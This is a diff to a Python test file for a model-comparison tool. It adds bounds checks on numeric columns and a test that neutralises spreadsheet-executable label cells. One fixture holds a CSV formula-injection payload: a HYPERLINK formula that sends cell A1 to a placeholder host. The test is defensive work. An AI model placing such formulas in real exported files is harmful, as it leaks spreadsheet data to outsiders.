@@ -222,7 +222,10 @@ def test_thin_points_get_a_baseline_of_their_own_model_only(tmp_path):
     ("label,top1,macs,flops\nx,70,1e6,1\n", ":1: unknown column 'flops'"),
     ("label,top1\nx,70\n", ":1: missing column 'macs'"),
     ("label,top1,macs\nx,70,1e6,5\n", ":2: more cells than the header's 3 columns"),
-    ("label,top1,macs\nx,70,-5\n", ":2: column macs: must be > 0, got -5"),
+    ("label,top1,macs\nx,70,-5\n", ":2: column macs: must be in (0, 1e18], got -5"),
+    # finite but absurd: the plots' log axes overflowed (a matplotlib traceback)
+    ("label,top1,macs\nx,70,1e300\n", ":2: column macs: must be in (0, 1e18], got 1e300"),
+    ("label,top1,macs,params\nx,70,1e6,1e19\n", ":2: column params: must be in (0, 1e18]"),
     # counts that round to 0 used to pass and crash the log axis (math domain error)
     ("label,top1,macs\nx,70,0.4\n", ":2: column macs: must be >= 1 after rounding to a whole "
                                      "count, got 0.4"),
@@ -601,3 +604,13 @@ def test_thin_vs_pruned_end_to_end(data_root, tmp_path, monkeypatch, capsys):
     assert capsys.readouterr().err == ("error: runs/w025: trained on data.dataset=digits, but "
                                        "resnet56-cifar10 is on cifar10 (data.dataset=cifar10); "
                                        "compare it without --benchmark\n")
+
+
+def test_table_cells_that_a_spreadsheet_would_run_are_made_inert(tmp_path):
+    points = tmp_path / "p.csv"
+    points.write_text('label,top1,macs\n"=HYPERLINK(""http://x/?""&A1)",50,1e6\n@SUM(1),51,2e6\n'
+                      "plain,52,3e6\n")
+    out = tmp_path / "cmp"
+    assert compare_tool.main(["--points", str(points), "--out", str(out), "--name", "x"]) == 0
+    labels = [r["label"] for r in csv.DictReader(open(out / "x-table.csv"))]
+    assert sorted(labels) == ["'=HYPERLINK(\"http://x/?\"&A1)", "'@SUM(1)", "plain"], labels
